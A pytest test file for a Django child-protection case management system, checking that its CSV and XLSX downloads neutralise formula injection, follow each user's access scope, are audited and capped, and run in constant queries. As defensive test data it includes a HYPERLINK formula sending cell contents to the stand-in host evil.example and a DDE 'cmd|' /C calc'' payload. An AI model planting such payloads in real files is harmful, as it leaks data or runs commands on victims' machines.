"""Downloads: formula injection neutralised in every cell, and the record lists as CSV/XLSX (scoped, audited,
capped, in a constant number of queries)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from careforce.core import exports
from careforce.core.models import AuditAction, AuditEntry
from careforce.people.models import Person
from tests.cases.conftest import make_child, open_case  # noqa: F401  (shared fixtures)
from tests.referrals.conftest import refer  # noqa: F401  (shared fixture)
from tests.referrals.factories import ServiceFactory
from tests.workforce.factories import AssignmentFactory, PostFactory, WorkerFactory

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # the byte-order mark spreadsheets need for ș and щ
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _sheet(body: bytes):
    assert body[:2] == b"PK"
    return load_workbook(io.BytesIO(body)).active


def _table(response) -> tuple[list[str], list[list[str]]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = _csv(response.content)
    return rows[0], rows[1:]


def _column(response, name: str) -> list[str]:
    header, body = _table(response)
    i = header.index(name)
    return [row[i] for row in body]


def _last_export() -> AuditEntry:
    return AuditEntry.objects.filter(action=AuditAction.EXPORT).order_by("-pk").first()


# --- Formula injection (OWASP "CSV Injection"), in every export -----------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_text_starting_a_formula_is_written_as_text_in_csv(start):
    value = f"{start}1+2*cmd|' /C calc'!A0"
    rows = _csv(exports.table_bytes(["Name"], [[value]], "csv"))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_text_starting_a_formula_is_written_as_text_in_xlsx(start):
    value = f"{start}SUM(1,2)"
    cell = _sheet(exports.table_bytes(["Name"], [[value]], "xlsx"))["A2"]
    assert cell.data_type == "s"  # a string, never a formula ("f")
    # Without lxml, XML reads a bare carriage return back as a line feed; what matters is the quote in front.
    assert cell.value.replace("\r", "\n") == "'" + value.replace("\r", "\n")


def test_a_formula_reaches_xlsx_as_text_not_as_a_formula():
    cell = _sheet(exports.table_bytes(["Name"], [[HYPERLINK]], "xlsx"))["A2"]
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


def test_the_nul_character_is_dropped_and_cannot_hide_a_formula():
    assert _csv(exports.table_bytes(["a"], [["\0=1+1"]], "csv"))[1] == ["'=1+1"]
    assert _sheet(exports.table_bytes(["a"], [["\0=1+1"]], "xlsx"))["A2"].value == "'=1+1"


def test_headers_are_neutralised_too():
    assert _csv(exports.table_bytes(["=cmd"], [], "csv"))[0] == ["'=cmd"]


def test_numbers_stay_numbers_negative_ones_too():
    row = [-5, -2.5, Decimal("-12.50"), 0, "-12.50", "-3"]
    raw = exports.table_bytes(["a", "b", "c", "d", "e", "f"], [row], "csv").decode("utf-8-sig")
    # Numbers are written bare (a spreadsheet reads them as numbers); a number written as text is no formula.
    assert raw.splitlines()[1] == '-5,-2.5,-12.50,0,"-12.50","-3"'
    sheet = _sheet(exports.table_bytes(["a", "b", "c", "d", "e", "f"], [row], "xlsx"))
    cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
    assert [c.value for c in cells[:4]] == [-5, -2.5, -12.5, 0]
    assert all(c.data_type == "n" for c in cells[:4])
    assert [c.value for c in cells[4:]] == ["-12.50", "-3"]


def test_a_text_like_a_number_with_a_formula_is_still_neutralised():
    assert exports.neutralise("-1+cmd") == "'-1+cmd"
    assert exports.neutralise("-12.50") == "-12.50"
    assert exports.neutralise("+373 69 123 456") == "'+373 69 123 456"


def test_romanian_and_russian_text_is_untouched():
    names = ["Ștefan Țurcanu-Bălănescu", "Чебан Ион Ильич", "'already quoted", "a=b", "12 - 3"]
    assert _csv(exports.table_bytes(["Name"], [[n] for n in names], "csv"))[1:] == [[n] for n in names]
    sheet = _sheet(exports.table_bytes(["Name"], [[n] for n in names], "xlsx"))
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == names


def test_a_separator_inside_a_text_cannot_start_a_new_cell():
    # Where a spreadsheet splits on semicolons, "Ion;=1+1" must stay one quoted cell.
    raw = exports.table_bytes(["Name"], [["Ion;=1+1"]], "csv").decode("utf-8-sig")
    assert raw.splitlines()[1] == '"Ion;=1+1"'


def test_dates_are_written_as_iso_8601():
    day = dt.date(2026, 3, 1)
    assert _csv(exports.table_bytes(["On"], [[day]], "csv"))[1] == ["2026-03-01"]
    assert _sheet(exports.table_bytes(["On"], [[day]], "xlsx"))["A2"].value == "2026-03-01"


def test_an_existing_export_is_neutralised(cast, client_for):
    """The indicators (like every table_response download) go through the same cells."""
    cast.region.name = HYPERLINK
    cast.region.save()
    response = client_for("admin").get("/workforce/indicators/?format=csv")
    names = _column(response, "Area")
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    sheet = _sheet(client_for("admin").get("/workforce/indicators/?format=xlsx").content)
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.value == "'" + HYPERLINK and c.data_type == "s" for c in cells)


# --- The case tray --------------------------------------------------------------------------------------


@pytest.fixture
def cases(cast, open_case, make_child):  # noqa: F811
    ana = open_case(child=make_child(given="Ana", family="Ceban"))
    maria = open_case(risk="high", child=make_child(given="Maria", family="Rusu"), opened_on=dt.date(2026, 2, 2))
    petru = open_case(
        by=cast.other_case_manager,
        child=make_child(given="Petru", family="Lungu", by=cast.other_case_manager, area=cast.other_district),
    )
    far = open_case(
        by=cast.far_case_manager,
        child=make_child(given="Ilie", family="Moraru", by=cast.far_case_manager, area=cast.far_district),
    )
    return {"ana": ana, "maria": maria, "petru": petru, "far": far}


@pytest.mark.parametrize(
    ("persona", "children"),
    [
        ("case_manager", {"Ana Ceban", "Maria Rusu"}),  # only her cases
        ("regional", {"Ana Ceban", "Maria Rusu", "Petru Lungu"}),  # her region
        ("admin", {"Ana Ceban", "Maria Rusu", "Petru Lungu", "Ilie Moraru"}),
    ],
)
def test_the_tray_download_holds_the_rows_of_the_page(persona, children, cases, client_for, settings):
    settings.CAREFORCE_PAGE_SIZE = 1  # every page goes into the file, not the one shown
    client = client_for(persona)
    page = client.get("/cases/?page=2")
    expected = [str(c.child) for c in page.context["page"].paginator.object_list]
    got = _column(client.get("/cases/?format=csv&page=2"), "Child")
    assert got == expected and set(got) == children


def test_the_tray_download_has_the_tray_columns_and_its_filters(cast, cases, client_for):
    response = client_for("case_manager").get("/cases/?risk=high&format=csv")
    header, body = _table(response)
    assert header == [
        "Case number", "Child", "Risk", "Status", "Opened", "Case manager", "Next deadline", "Next step", "Locality",
    ]
    maria = cases["maria"]
    maria.refresh_from_db()
    assert body == [[
        maria.number, "Maria Rusu", "High risk", "Registered, awaiting initial assessment", "2026-02-02",
        str(cast.case_manager), maria.next_due_on.isoformat(), "Initial assessment", "Valea Nucilor",
    ]]  # the next step by its name, not its code
    entry = _last_export()
    assert entry.actor == cast.case_manager and entry.object_type == "cases.case"
    assert entry.changes["list"] == [None, "cases"] and entry.changes["rows"] == [None, 1]
    assert entry.changes["filter risk"] == [None, "high"] and "filter format" not in entry.changes
    assert entry.summary == "cases list as CSV: 1 rows; risk=high"


def test_the_tray_download_as_xlsx(cast, cases, client_for):
    response = client_for("supervisor").get("/cases/?format=xlsx")
    assert response.status_code == 200 and response["Content-Type"] == exports.XLSX_TYPE
    sheet = _sheet(response.content)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("Case number", "Child") and {r[1] for r in rows[1:]} == {"Ana Ceban", "Maria Rusu"}
    assert sheet.freeze_panes == "A2"
    assert _last_export().changes["format"] == [None, "xlsx"]


def test_a_child_named_as_a_formula_is_neutralised_in_the_tray_download(cast, open_case, make_child, client_for):  # noqa: F811
    open_case(child=make_child(given=HYPERLINK, family="Ceban"))
    client = client_for("case_manager")
    assert _column(client.get("/cases/?format=csv"), "Child") == ["'" + HYPERLINK + " Ceban"]
    cell = _sheet(client.get("/cases/?format=xlsx").content)["B2"]
    assert cell.value == "'" + HYPERLINK + " Ceban" and cell.data_type == "s"


def test_every_download_is_audited(cast, cases, client_for):
    before = AuditEntry.objects.filter(action=AuditAction.EXPORT).count()
    client = client_for("admin")
    for url in ["/cases/?format=csv", "/workforce/workers/?format=xlsx", "/people/?format=csv",
                "/referrals/incoming/?format=csv", "/referrals/outgoing/?format=xlsx"]:
        assert client.get(url).status_code == 200, url
    entries = list(AuditEntry.objects.filter(action=AuditAction.EXPORT).order_by("pk")[before:])
    assert [e.changes["list"][1] for e in entries] == [
        "cases", "workers", "people", "referrals-received", "referrals-sent",
    ]
    assert all(e.actor == cast.admin and e.actor_username == "admin" for e in entries)
    assert entries[0].changes["rows"] == [None, 4]


def test_the_page_offers_the_downloads_with_its_filters(cases, client_for):
    client = client_for("case_manager")
    page = client.get("/cases/?risk=high").content.decode()
    assert 'href="?risk=high&amp;format=csv"' in page and 'href="?risk=high&amp;format=xlsx"' in page
    # The htmx filter replaces the rows and the links with them, so a download follows the new filters.
    fragment = client.get("/cases/?status=screening", headers={"HX-Request": "true"}).content.decode()
    assert 'href="?status=screening&amp;format=csv"' in fragment
    assert "holds the first" not in page


def test_a_list_past_the_cap_is_cut_and_its_page_says_so(cast, cases, client_for, settings):
    settings.CAREFORCE_EXPORT_MAX_ROWS = 1
    client = client_for("case_manager")
    page = client.get("/cases/").content.decode()
    assert "This list has 2 rows: a download holds the first 1. Narrow the filters to download the rest." in page
    assert len(_column(client.get("/cases/?format=csv"), "Child")) == 1
    entry = _last_export()
    assert entry.changes["rows"] == [None, 1] and entry.changes["cut_at"] == [None, 1]
    assert "(cut at 1)" in entry.summary
    # A list within the cap says nothing and is whole.
    assert "holds the first" not in client.get("/cases/?risk=high").content.decode()
    assert len(_column(client.get("/cases/?risk=high&format=csv"), "Child")) == 1
    assert "cut_at" not in _last_export().changes


def test_unknown_formats_show_the_page(cases, client_for):
    response = client_for("case_manager").get("/cases/?format=pdf")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


# --- Constant queries -----------------------------------------------------------------------------------


def _queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def _more_cases(cast, open_case, make_child, n: int) -> None:  # noqa: F811
    for i, by in enumerate([cast.case_manager, cast.other_case_manager, cast.far_case_manager] * n):
        area = {cast.case_manager: cast.locality, cast.other_case_manager: cast.other_district}.get(by, cast.far_district)
        open_case(by=by, risk=["high", "medium", "low"][i % 3], child=make_child(given=f"Child{i}", by=by, area=area))


def test_the_tray_download_costs_the_same_queries_for_more_rows(cast, cases, open_case, make_child, client_for):  # noqa: F811
    client = client_for("admin")
    client.get("/cases/?format=csv")  # warm: the session, the language
    few = _queries(client, "/cases/?format=csv")
    _more_cases(cast, open_case, make_child, 3)
    assert len(_column(client.get("/cases/?format=csv"), "Child")) == 13
    assert _queries(client, "/cases/?format=xlsx") == few == _queries(client, "/cases/?format=csv")


def test_the_worker_download_costs_the_same_queries_for_more_rows(cast, workers, client_for):
    client = client_for("admin")
    client.get("/workforce/workers/?format=csv")
    few = _queries(client, "/workforce/workers/?format=csv")
    for org in [cast.directorate, cast.other_directorate, cast.municipal, cast.far_directorate]:
        worker = WorkerFactory(organisation=org)
        AssignmentFactory(worker=worker, post=PostFactory(organisation=org))
    assert len(_column(client.get("/workforce/workers/?format=csv"), "Family name")) == 7
    assert _queries(client, "/workforce/workers/?format=csv") == few


def test_the_people_download_costs_the_same_queries_for_more_rows(cast, people, make_child, client_for):  # noqa: F811
    client = client_for("admin")
    client.get("/people/?format=csv")
    few = _queries(client, "/people/?format=csv")
    for i, area in enumerate([cast.locality, cast.other_district, cast.far_district, cast.district]):
        make_child(given=f"Copil{i}", area=area)
    assert _queries(client, "/people/?format=csv") == few


def test_the_referral_downloads_cost_the_same_queries_for_more_rows(cast, referrals, refer, client_for):  # noqa: F811
    client = client_for("admin")
    client.get("/referrals/outgoing/?format=csv")
    few = _queries(client, "/referrals/outgoing/?format=csv")
    for org in [cast.municipal, cast.far_directorate, cast.training_centre]:
        refer(referrals["case"], ServiceFactory(organisation=org))
    assert len(_column(client.get("/referrals/outgoing/?format=csv"), "Child")) == 6
    assert _queries(client, "/referrals/outgoing/?format=csv") == few


# --- The workforce registry -----------------------------------------------------------------------------


@pytest.fixture
def workers(cast):
    own = WorkerFactory(organisation=cast.directorate, user=cast.case_manager, given_name="Elena", family_name="Ceban")
    AssignmentFactory(worker=own, post=PostFactory(organisation=cast.directorate, title="Case manager 1"),
                      start=dt.date(2022, 3, 1), fte=Decimal("0.50"))
    WorkerFactory(organisation=cast.directorate, given_name="Ion", family_name="Popa", active=False)
    WorkerFactory(organisation=cast.far_directorate, user=cast.far_case_manager, given_name="Vera", family_name="Sîrbu")


@pytest.mark.parametrize(
    ("persona", "names"),
    [("case_manager", ["Ceban", "Popa"]), ("admin", ["Ceban", "Popa", "Sîrbu"])],
)
def test_the_worker_download_holds_the_rows_of_the_page(persona, names, cast, workers, client_for, settings):
    settings.CAREFORCE_PAGE_SIZE = 1
    client = client_for(persona)
    page = client.get("/workforce/workers/")
    expected = [w.family_name for w in page.context["page"].paginator.object_list]
    assert _column(client.get("/workforce/workers/?format=csv"), "Family name") == expected == names


def test_the_worker_download_has_the_current_post_and_the_filters(cast, workers, client_for):
    response = client_for("supervisor").get("/workforce/workers/?active=yes&format=csv")
    header, body = _table(response)
    row = dict(zip(header, body[0], strict=True))
    assert len(body) == 1 and row["Family name"] == "Ceban" and row["Current post"] == "Case manager 1"
    assert Decimal(row["FTE"]) == Decimal("0.5") and row["In the post since"] == "2022-03-01" and row["Active"] == "yes"
    assert row["Organisation"] == "Directorate Bălțeni"
    assert _last_export().changes["filter active"] == [None, "yes"]
    # In XLSX the full-time equivalent is a number.
    sheet = _sheet(client_for("supervisor").get("/workforce/workers/?active=yes&format=xlsx").content)
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("FTE") + 1).value == 0.5


# --- Children and families ------------------------------------------------------------------------------


@pytest.fixture
def people(cast, make_child):  # noqa: F811
    make_child(given="Ana", family="Ceban")
    make_child(given="Маша", family="Русу")
    make_child(given="Petru", family="Lungu", by=cast.other_case_manager, area=cast.other_district)
    make_child(given="Ilie", family="Moraru", by=cast.far_case_manager, area=cast.far_district)


@pytest.mark.parametrize(
    ("persona", "names"),
    [("case_manager", ["Ceban", "Русу"]), ("other_case_manager", ["Lungu"]),
     ("admin", ["Ceban", "Lungu", "Moraru", "Русу"])],
)
def test_the_people_download_holds_the_rows_of_the_page(persona, names, people, client_for, settings):
    settings.CAREFORCE_PAGE_SIZE = 1
    client = client_for(persona)
    page = client.get("/people/")
    expected = [p.family_name for p in page.context["page"].paginator.object_list]
    assert _column(client.get("/people/?format=csv"), "Family name") == expected == names


def test_the_people_download_keeps_the_search(cast, people, client_for):
    response = client_for("case_manager").get("/people/?q=Русу&format=csv")
    header, body = _table(response)
    assert header == ["Family name", "Given name", "Date of birth", "Sex", "Locality"]
    assert body == [["Русу", "Маша", "2015-03-12", "Male", "Valea Nucilor"]]
    assert _last_export().changes["filter q"] == [None, "Русу"]


def test_a_sensitive_column_is_left_out_for_those_without_need_to_know(cast, make_child):  # noqa: F811
    Person.objects.filter(pk=make_child(by=cast.volunteer).pk).update(health_notes="asthma")
    columns = [
        exports.Column("Name", lambda p: p.given_name, "given_name"),
        exports.Column("Health", lambda p: p.health_notes, "health_notes"),
    ]
    for user, expected in [(cast.volunteer, [["Name"], ["Ion"]]), (cast.admin, [["Name", "Health"], ["Ion", "asthma"]])]:
        request = RequestFactory().get("/people/?format=csv")
        request.user = user
        response = exports.list_response(
            request, name="people", rows=Person.objects.visible_to(user), columns=columns, fmt="csv",
        )
        assert _csv(response.content) == expected


# --- Referrals ------------------------------------------------------------------------------------------


@pytest.fixture
def referrals(cast, open_case, make_child, refer):  # noqa: F811
    case = open_case(child=make_child(given="Ana", family="Ceban"))
    to_other = ServiceFactory(organisation=cast.other_directorate, name="Counselling Florești")
    refer(case, to_other)
    refer(case, ServiceFactory(organisation=cast.far_directorate, name="Day centre Cahul"))
    far = open_case(by=cast.far_case_manager, child=make_child(given="Ilie", family="Moraru", by=cast.far_case_manager,
                                                                area=cast.far_district))
    refer(far, ServiceFactory(organisation=cast.training_centre, name="Training"), actor=cast.far_case_manager)
    return {"case": case}


@pytest.mark.parametrize(
    ("persona", "url", "services"),
    [
        ("case_manager", "/referrals/outgoing/", {"Counselling Florești", "Day centre Cahul"}),
        ("other_case_manager", "/referrals/incoming/", {"Counselling Florești"}),
        ("other_case_manager", "/referrals/outgoing/", set()),
        ("admin", "/referrals/incoming/", {"Counselling Florești", "Day centre Cahul", "Training"}),
    ],
)
def test_the_referral_downloads_hold_the_rows_of_the_page(persona, url, services, referrals, client_for, settings):
    settings.CAREFORCE_PAGE_SIZE = 1
    client = client_for(persona)
    page = client.get(url)
    expected = [r.service.name for r in page.context["page"].paginator.object_list]
    got = _column(client.get(url + "?format=csv"), "Service")
    assert got == expected and set(got) == services


def test_the_receiver_downloads_what_her_list_shows(cast, referrals, client_for):
    header, body = _table(client_for("other_case_manager").get("/referrals/incoming/?status=sent&format=csv"))
    row = dict(zip(header, body[0], strict=True))
    assert len(body) == 1 and row["Child"] == "Ana Ceban" and row["From"] == "Directorate Bălțeni"
    assert row["To"] == "Directorate Florești" and row["Status"] and row["Answer due by"]
    entry = _last_export()
    assert entry.actor == cast.other_case_manager and entry.object_type == "referrals.referral"
    assert entry.changes["list"] == [None, "referrals-received"] and entry.changes["filter status"] == [None, "sent"]
